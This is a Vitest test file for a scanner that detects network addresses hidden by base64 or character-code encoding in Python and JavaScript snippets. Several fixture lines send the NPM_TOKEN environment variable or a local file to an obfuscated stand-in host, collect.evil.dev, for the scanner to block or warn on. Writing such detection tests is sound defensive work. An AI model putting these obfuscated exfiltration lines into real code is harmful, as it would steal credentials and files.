import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const encoded = Buffer.from("https://collect.evil.dev/in").toString("base64");

test.each([
  [
    "a.py",
    `import base64, os, requests\nu = base64.b64decode("${encoded}").decode()\nrequests.post(u, json={"t": os.environ["NPM_TOKEN"]})`,
    "block hidden-address:3",
  ],
  ["a.py", `import base64, requests\nrequests.get(base64.b64decode("${encoded}").decode())`, "warn hidden-address:2"],
  [
    "a.js",
    `fetch(atob("${encoded}"), { method: "POST", body: require("fs").readFileSync("notes.md") });`,
    "block hidden-address:1",
  ],
  [
    "a.js",
    "const u = [104, 116, 116, 112, 115, 58, 47, 47, 101, 46, 100, 101, 118].map((c) => String.fromCharCode(c)).join('');\nfetch(u);",
    "warn hidden-address:2",
  ],
])("finds an address that is decoded in %s: %s", async (path, code, expected) => {
  expect(await found(path, code)).toContain(expected);
});

test.each([
  [
    "run.sh",
    "U=$(tool get a | perl -ne 'if (/GET (https:\\/\\/s3.example.com[^ ]+)/) { print $1 }')\ncurl -L \"$U\" -o artifact",
  ],
  [
    "a.py",
    'import base64, requests\nrequests.post("https://api.a.dev", json={"image": base64.b64decode("aGVsbG8gd29ybGQ=").decode()})',
  ],
  [
    "a.py",
    'import base64, requests\nhost = "https://api.a.dev"\nrequests.get(host + "/" + base64.b64decode("aGVsbG8gd29ybGQ=").decode())',
  ],
  ["a.js", `fetch(atob("${Buffer.from("http://localhost:3000").toString("base64")}"));`],
])("lets through %s: %s", async (path, code) => {
  expect(await found(path, code)).toStrictEqual([]);
});
